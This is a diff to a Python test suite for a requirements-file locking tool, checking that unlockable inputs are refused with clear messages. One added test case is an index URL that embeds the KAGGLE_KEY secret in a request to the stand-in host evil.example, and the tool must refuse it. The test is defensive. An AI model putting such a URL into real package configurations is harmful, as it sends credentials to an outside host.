@@ -219,12 +219,18 @@ def test_a_file_with_hashes_is_its_own_lock(wanted: Path) -> None:
         ("greeting @ https://host/greeting-1.0-py3-none-any.whl\n", "requirements.txt:1 is no released"),
         ("git+https://host/greeting\n", "requirements.txt:1 is no released version"),
         ("--find-links wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
-        ("-r gone.txt\n", "cannot be read"),
-        ("-r /dev/zero\n", "larger than"),
+        ("-r gone.txt\n", "gone.txt is no file"),
+        ("-r /dev/zero\n", "zero is no file"),
+        ("--find-links file:///srv/wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
+        ("--index-url https://evil.example/${KAGGLE_KEY}/\ngreeting\n", "refers to a variable"),
     ],
 )
 def test_what_cannot_be_locked_is_said(index: Index, wanted: Path, text: str, told: str) -> None:
     assert told in refused(wanted, text, index.variables)
+
+
+def test_a_file_that_is_too_large_is_not_read(index: Index, wanted: Path) -> None:
+    assert "larger than 1 MB" in refused(wanted, "#" * (requirements.BYTES_MAX + 1), index.variables)
 
 
 def test_a_file_that_includes_itself_ends(index: Index, wanted: Path) -> None:
